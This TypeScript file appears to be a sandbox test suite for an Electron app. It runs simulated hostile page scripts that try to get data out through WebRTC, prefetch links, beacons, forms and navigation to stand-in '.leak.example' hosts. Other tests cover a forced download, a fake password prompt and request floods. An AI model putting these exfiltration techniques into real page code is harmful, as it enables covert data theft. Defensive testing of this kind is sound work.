import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer, type AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Result } from '../../src/shared/contract/errors'
import { expect, test } from './support/test'
import { stateOf, untilReady } from './support/user'
import { waitFor } from './support/wait-for'

/** A hostile script in the page of the built app, with every way out that Chromium has. */

declare global {
  /** In main: its message boxes and what it opened outside; `held` is what an answer waits for. */
  var seen: { questions: string[]; most: number; opened: string[]; held: Promise<void>; release: () => void }
  /** In the page. */
  var answers: Result<unknown>[]
}

const portOf = (server: { address(): unknown }): number => (server.address() as AddressInfo).port

/** Listeners on this computer, one a kind of way out, and all that reached them. */
async function listen() {
  const heard: string[] = []
  const udp = createSocket('udp4').on('message', (message) => heard.push(`udp: ${message.length} bytes`))
  const tcp = createServer((socket) => {
    heard.push('tcp')
    socket.on('error', () => undefined).destroy()
  })
  const web = createHttpServer(({ url }, answer) => {
    heard.push(`http: ${url}`)
    answer.end()
  })
  udp.bind(0, '127.0.0.1')
  tcp.listen(0, '127.0.0.1')
  web.listen(0, '127.0.0.1')
  await Promise.all([udp, tcp, web].map((server) => once(server, 'listening')))
  const close = (): void => [udp, tcp, web].forEach((server) => server.close())
  return { heard, close, ports: { udp: portOf(udp), tcp: portOf(tcp), web: portOf(web) } }
}

test('a script in the page has no Node and gets nothing out by WebRTC, names, links, forms or navigation', async ({ launch, home }) => {
  const outside = await listen()
  const netLog = join(home, 'net-log.json')
  const app = await launch({ args: [`--log-net-log=${netLog}`] })
  await untilReady(app.page)
  const inside = await app.page.evaluate(() => ({
    hasNode: ['require', 'process', 'Buffer'].some((name) => name in globalThis), bridge: Object.keys(window.nemo).sort(),
  }))
  expect(inside).toEqual({ hasNode: false, bridge: ['addFiles', 'invoke', 'platform', 'snapshot', 'subscribe'] })
  const preferences = await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }
    return contents.getLastWebPreferences()
  })
  expect(preferences).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false })
  const gathered = await app.page.evaluate(async ({ udp, tcp, web }) => {
    const ice = async (urls: string): Promise<string> => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] })
      peer.createDataChannel('out')
      const found: string[] = []
      const isOver = new Promise<void>((resolve) => {
        peer.addEventListener('icecandidate', ({ candidate }) => (candidate ? found.push(candidate.candidate) : resolve()))
      })
      await peer.setLocalDescription(await peer.createOffer())
      await isOver
      return `${peer.iceGatheringState} ${found.join()}`
    }
    const make = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
      const element = document.createElement(tag)
      Object.entries(attributes).forEach(([name, value]) => element.setAttribute(name, value))
      document.body.append(element)
      return element
    }
    const to = (path: string): string => `http://127.0.0.1:${web}/${path}`
    for (const rel of ['dns-prefetch', 'preconnect']) make('link', { rel, href: `https://secret-${rel}.leak.example` })
    const fetching = ['preconnect', 'prefetch', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'prerender']
    for (const rel of fetching) make('link', { rel, href: to(rel) })
    for (const tag of ['img', 'iframe', 'embed', 'video', 'script']) make(tag, { src: to(tag) })
    await fetch(to('fetch'), { mode: 'no-cors' }).catch(() => undefined)
    navigator.sendBeacon(to('beacon'), 'secret')
    new WebSocket(`ws://127.0.0.1:${web}/socket`)
    window.open(to('window'))
    make('a', { href: to('link'), ping: to('ping') }).click()
    ;(make('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit()
    location.href = to('location')
    const servers = [`stun:127.0.0.1:${udp}`, `turn:127.0.0.1:${udp}`, `turn:127.0.0.1:${tcp}?transport=tcp`]
    return Promise.all([...servers, 'stun:secret-stun.leak.example'].map(ice))
  }, outside.ports)
  expect(gathered).toEqual(gathered.map(() => 'complete '))
  expect(await app.page.evaluate(() => location.href)).toBe('nemo-app://app/index.html')
  await app.close()
  outside.close()
  expect(outside.heard).toEqual([])
  const log = readFileSync(netLog, 'utf8')
  expect(log, 'Chromium wrote down what it did').toContain('"constants"')
  expect(log.match(/[\w-]+\.leak\.example/g)).toBeNull()
})

test('a page saves no file, and shows no message box of its own', async ({ launch, home }) => {
  const { page, electron } = await launch()
  await untilReady(page)
  await electron.evaluate(({ session }) => {
    session.defaultSession.on('will-download', (event) => void (process.env['DOWNLOAD'] = event.defaultPrevented ? 'refused' : 'begun'))
  })
  const answer = await page.evaluate(() => {
    const link = document.createElement('a')
    link.href = URL.createObjectURL(new Blob(['hello']))
    link.download = 'hello.desktop'
    link.click()
    return window.confirm('Enter your password')
  })
  const download = await waitFor('a download is asked for', () => electron.evaluate(() => process.env['DOWNLOAD']))
  expect([download, answer]).toEqual(['refused', false])
  expect(readdirSync(home, { recursive: true }).filter((name) => String(name).includes('hello'))).toEqual([])
})

test('links ask once a site, one question at a time, and a flood of them opens nothing more', async ({ launch }) => {
  const { page, electron } = await launch()
  await untilReady(page)
  await electron.evaluate(({ dialog, shell }) => {
    const [questions, opened]: [string[], string[]] = [[], []]
    const seen = { questions, open: 0, most: 0, opened, held: Promise.resolve(), release: () => undefined }
    Object.assign(globalThis, { seen })
    const answer = async (_window: unknown, { message }: Electron.MessageBoxOptions) => {
      seen.questions.push(message)
      seen.most = Math.max(seen.most, ++seen.open)
      await seen.held
      seen.open--
      return { response: 0, checkboxChecked: false }
    }
    Object.assign(dialog, { showMessageBox: answer })
    shell.openExternal = async (url) => void seen.opened.push(url)
  })
  const seen = () => electron.evaluate(() => ({ ...globalThis.seen }))
  const open = (url: string) => page.evaluate((url) => window.nemo.invoke('link.open', { url }), url)
  expect(await open('https://a.example/1')).toMatchObject({ ok: true })
  expect(await open('https://a.example/2')).toMatchObject({ ok: true })
  const once = { questions: ['Open a.example in your browser?'], opened: ['https://a.example/1', 'https://a.example/2'] }
  expect(await seen()).toMatchObject(once)
  // The first question of the flood stays open until all that is refused is refused.
  await electron.evaluate(() => void (globalThis.seen.held = new Promise((resolve) => (globalThis.seen.release = resolve))))
  await page.evaluate(() => {
    globalThis.answers = []
    for (let i = 0; i < 805; i++) {
      void window.nemo.invoke('link.open', { url: `https://${i}.example` }).then((answer) => globalThis.answers.push(answer))
    }
  })
  const answers = () => page.evaluate(() => globalThis.answers)
  await waitFor('most are refused', async () => (await answers()).length >= 795)
  expect((await answers()).find(({ ok }) => !ok)).toEqual({ ok: false, error: { kind: 'blocked', reason: 'dialog-open' } })
  await electron.evaluate(() => globalThis.seen.release())
  await waitFor('all are answered', async () => (await answers()).length === 805)
  expect((await answers()).filter(({ ok }) => ok).length).toBeLessThan(8)
  const { most, opened } = await seen()
  expect(most).toBe(1)
  expect(opened.length).toBeLessThan(10)
})

test('a page that names a server changes nothing, before main itself has asked', async ({ launch }) => {
  const outside = await listen()
  const { page, electron } = await launch()
  await untilReady(page)
  const address = `http://127.0.0.1:${outside.ports.web}`
  await electron.evaluate(async ({ clipboard, dialog }) => {
    await clipboard.writeText('nmv_usr_a-token-of-this-test')
    Object.assign(dialog, { showMessageBox: async () => ({ response: 1, checkboxChecked: false }) })
  })
  const before = (await stateOf(page)).settings
  const answers = await page.evaluate(async (backend) => [
    await window.nemo.invoke('account.pasteToken', { backend }),
    await window.nemo.invoke('settings.update', { backend }),
    await window.nemo.invoke('server.add', { address: backend }),
  ], address)
  expect(answers).toMatchObject([{ ok: false }, { ok: false }, { ok: true, value: { isAdded: false } }])
  expect((await stateOf(page)).settings).toEqual(before)
  expect(outside.heard).toEqual([])

  await electron.evaluate(({ dialog }) => Object.assign(dialog, { showMessageBox: async () => ({ response: 0, checkboxChecked: false }) }))
  // So soon after the first it is one double click, which asks once.
  const add = () => page.evaluate((address) => window.nemo.invoke('server.add', { address }), address)
  await expect.poll(add).toMatchObject({ ok: true, value: { isAdded: true } })
  await waitFor('the server that the user agreed to is asked', () => outside.heard.length > 0)
  outside.close()
})

test('a window cannot make main read 400 million characters', async ({ launch }) => {
  const { page } = await launch()
  await untilReady(page)
  const { answer, ms } = await page.evaluate(async () => {
    const startedAt = performance.now()
    const answer = await window.nemo.invoke('upload.link', { projectId: 'p', url: `https://${'x'.repeat(400_000_000)}` })
    return { answer, ms: performance.now() - startedAt }
  })
  expect(answer).toEqual({ ok: false, error: { kind: 'blocked', reason: 'too-large' } })
  expect(ms).toBeLessThan(5000)
})
